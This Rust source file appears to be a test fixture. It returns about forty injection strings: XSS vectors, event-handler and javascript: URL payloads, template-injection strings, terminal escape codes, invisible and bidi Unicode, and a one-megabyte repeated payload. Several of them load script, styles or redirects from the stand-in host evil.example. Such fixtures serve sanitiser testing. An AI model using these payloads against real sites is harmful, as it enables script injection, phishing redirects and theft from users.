//! Texts that would like to be more than text.

/// Each tries another way into a page, a terminal, or the reader's eye. The last is a megabyte.
pub(super) fn payloads() -> Vec<String> {
    let short = [
        "<script>ran('script')</script>",
        "<ScRiPt src=//evil.example/x.js></sCrIpT>",
        "<img src=x onerror=ran('img')>",
        "<svg onload=ran('svg')>",
        "<svg><script>ran('svg script')</script></svg>",
        "<iframe srcdoc=\"<script>parent.ran('srcdoc')</script>\">",
        "<iframe src=\"javascript:parent.ran('iframe')\">",
        "<object data=\"data:text/html,<script>ran('object')</script>\">",
        "<embed src=\"javascript:ran('embed')\">",
        "<body onload=ran('body')>",
        "<details open ontoggle=ran('details')>",
        "<input autofocus onfocus=ran('focus')>",
        "<video><source onerror=ran('video')></video>",
        "<style>@import '//evil.example/x.css';*{display:none}</style>",
        "<link rel=stylesheet href=//evil.example/x.css>",
        "<base href=//evil.example/>",
        "<meta http-equiv=refresh content=\"0;url=//evil.example/\">",
        "<form action=//evil.example><button>Log in</button></form>",
        "<math><mtext></p><img src onerror=ran('math')></mtext></math>",
        "<template><img src=x onerror=ran('template')></template>",
        "javascript:ran('url')",
        "\" onmouseover=ran('attribute') x=\"",
        "' autofocus onfocus=ran('quote') '",
        "</title><script>ran('title')</script>",
        "</textarea><script>ran('textarea')</script>",
        "--><script>ran('comment')</script>",
        "]]><script>ran('cdata')</script>",
        "{{constructor.constructor('ran(1)')()}}",
        "${ran('template literal')}",
        "`;ran('backtick');`",
        "\\u003cscript\\u003eran('escaped')\\u003c/script\\u003e",
        "&lt;script&gt;ran('entity')&lt;/script&gt;",
        "+ADw-script+AD4-ran('utf-7')+ADw-/script+AD4-",
        "line\u{2028}separator\u{2029}ran('separator')",
        "\u{202e}txet desrever\u{2066}isolated",
        "\u{1b}[31mred\u{1b}[0m\u{1b}]0;title\u{7}",
        "null\u{0}byte<script>ran('null')</script>",
        "\u{feff}\u{200b}\u{ad}invisible\u{e0001}",
        "__proto__",
        "%3Cscript%3Eran('percent')%3C/script%3E",
    ];
    let mut all: Vec<String> = short.map(str::to_owned).to_vec();
    all.push("<img src=x onerror=ran(1)>".repeat(50_000)[..1 << 20].to_owned());
    all
}
